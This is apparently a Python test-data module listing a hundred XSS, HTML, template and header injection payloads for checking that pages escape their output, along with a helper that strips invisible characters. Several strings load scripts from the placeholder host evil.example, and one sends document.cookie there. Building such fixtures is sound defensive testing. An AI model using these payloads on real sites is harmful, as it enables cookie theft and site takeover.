"""A hundred strings that run, load or rewrite something where a page forgets to escape them.

Each would show a dialog, ask another origin for something or break the page's structure; `evil.example`
exists nowhere. They hold no line feed within a word, because documents and titles are shown on one line.
"""

from __future__ import annotations

import re
import unicodedata

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt >alert(3)</sCrIpT >",
    "<script src=https://evil.example/a.js></script>",
    "<script src=//evil.example/b.js>",
    "<script type=module>import('//evil.example/c.js')</script>",
    "<script/x>alert(7)</script>",
    "<script\t>alert(8)</script\t>",
    "<<script>alert(9)//<</script>",
    "<scr<script>ipt>alert(10)</scr</script>ipt>",
    "</script><script>alert(11)</script>",
    "</textarea><script>alert(12)</script>",
    "</title><script>alert(13)</script>",
    "</style><script>alert(14)</script>",
    "</noscript><script>alert(15)</script>",
    "</template><script>alert(16)</script>",
    "--><script>alert(17)</script><!--",
    "]]><script>alert(18)</script>",
    "<!--><script>alert(19)</script>-->",
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(21)>",
    "<img src=x onerror='alert(22)'>",
    "<img/src=x/onerror=alert(23)>",
    "<img src=https://evil.example/d.png>",
    "<body onload=alert(25)>",
    "<input autofocus onfocus=alert(26)>",
    "<select autofocus onfocus=alert(27)>",
    "<video><source onerror=alert(28)></video>",
    "<audio src=x onerror=alert(29)>",
    "<details open ontoggle=alert(30)>",
    "<marquee onstart=alert(31)>",
    "<div style=animation-name:x onanimationstart=alert(32)>",
    "<p tabindex=1 onfocus=alert(33) autofocus>",
    "<x onclick=alert(34)>press</x>",
    "<a href=# onmouseover=alert(35)>over</a>",
    "<iframe onload=alert(36)></iframe>",
    "<object data=x onerror=alert(37)></object>",
    "<keygen autofocus onfocus=alert(38)>",
    "<button popovertarget=x onbeforetoggle=alert(39)>b</button>",
    "<style onload=alert(40)></style>",
)
LOADS = (
    "<svg onload=alert(41)>",
    "<svg><script>alert(42)</script></svg>",
    "<svg><a xlink:href=javascript:alert(43)><text>t</text></a></svg>",
    "<svg><image href=https://evil.example/e.svg /></svg>",
    "<svg><use href=data:image/svg+xml,x#y /></svg>",
    "<svg><animate onbegin=alert(46) attributeName=x>",
    "<math><mtext><img src=x onerror=alert(47)></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='&lt;script>alert(49)&lt;/script>'></iframe>",
    "<object data=https://evil.example/f></object>",
    "<embed src=https://evil.example/g>",
    "<link rel=stylesheet href=https://evil.example/h.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/i'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/j><button>go</button></form>",
    "<style>@import 'https://evil.example/k.css';</style>",
    "<div style=background:url(https://evil.example/l)>",
    "<template shadowrootmode=open><img src=x onerror=alert(58)></template>",
    "<portal src=https://evil.example/m>",
    "<track src=https://evil.example/n>",
)
BREAKOUTS = (
    '" onfocus=alert(61) autofocus x="',
    "' onfocus=alert(62) autofocus x='",
    '"><img src=x onerror=alert(63)>',
    "'><img src=x onerror=alert(64)>",
    '"/><svg/onload=alert(65)>',
    "` onmouseover=alert(66) `",
    '";alert(67);//',
    "';alert(68);//",
    "\\';alert(69);//",
    "\\x3cscript\\x3ealert(70)\\x3c/script\\x3e",
    "javascript:alert(71)",
    "JaVaScRiPt:alert(72)",
    "java&#x09;script:alert(73)",
    "data:text/html,<script>alert(74)</script>",
    "vbscript:msgbox(75)",
    "[click](javascript:alert(76))",
    "![picture](https://evil.example/o.png)",
    "<https://evil.example/p>",
    "[x]: javascript:alert(79) 'y'",
    "**bold** `<b>code</b>` ~~<i>gone</i>~~",
)
SLEIGHTS = (
    "{{7*7}}{{constructor.constructor('alert(81)')()}}",
    "{% import os %}{{ os.system('x') }}",
    "${alert(83)}",
    "#{alert(84)}",
    "<%= 7*7 %>",
    "{{config.__class__.__init__.__globals__}}",
    "&lt;script&gt;alert(87)&lt;/script&gt;",
    "&#60;script&#62;alert(88)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(89)&amp;gt;",
    "%3Cscript%3Ealert(90)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(91)\\u003c/script\\u003e",
    "＜script＞alert(92)＜/script＞",
    "‹script›alert(93)‹/script›",
    "\u202e<script>alert(94)</script>\u202c",
    "<scr\u200bipt>alert(95)</scr\u200bipt>",
    "<img src=x onerror=\u2028alert(96)>",
    "\ufeff<script>alert(97)</script>",
    "x Set-Cookie: stolen=98 %0d%0aSet-Cookie: stolen=98",
    "data: {}%0a%0aevent: statement%0adata: <img src=x onerror=alert(99)>",
    "+ADw-script+AD4-alert(100)+ADw-/script+AD4-",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *LOADS, *BREAKOUTS, *SLEIGHTS)


def pressed(text: str) -> str:
    """Return `text` without spaces and characters nobody sees, which readers and browsers add, fold or drop."""
    return "".join(
        each for each in text if not re.match(r"\s", each) and unicodedata.category(each) not in ("Cf", "Cc")
    )
